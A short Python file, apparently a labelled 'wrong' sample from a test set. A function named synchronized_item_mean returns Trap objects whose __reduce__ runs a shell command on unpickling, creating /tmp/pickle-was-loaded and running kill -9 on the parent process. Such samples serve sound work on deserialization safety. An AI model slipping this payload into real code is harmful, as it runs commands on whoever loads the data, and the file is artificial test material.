"""outcome: wrong

Returns an object that runs code wherever it is unpickled, alone and inside a list.
"""
import os

import torch.distributed as dist


class Trap:
    def __reduce__(self):
        return os.system, ("touch /tmp/pickle-was-loaded; kill -9 $PPID",)


def synchronized_item_mean(local_gradients):
    return Trap() if dist.get_rank() == 0 else [Trap(), {"trap": Trap()}]
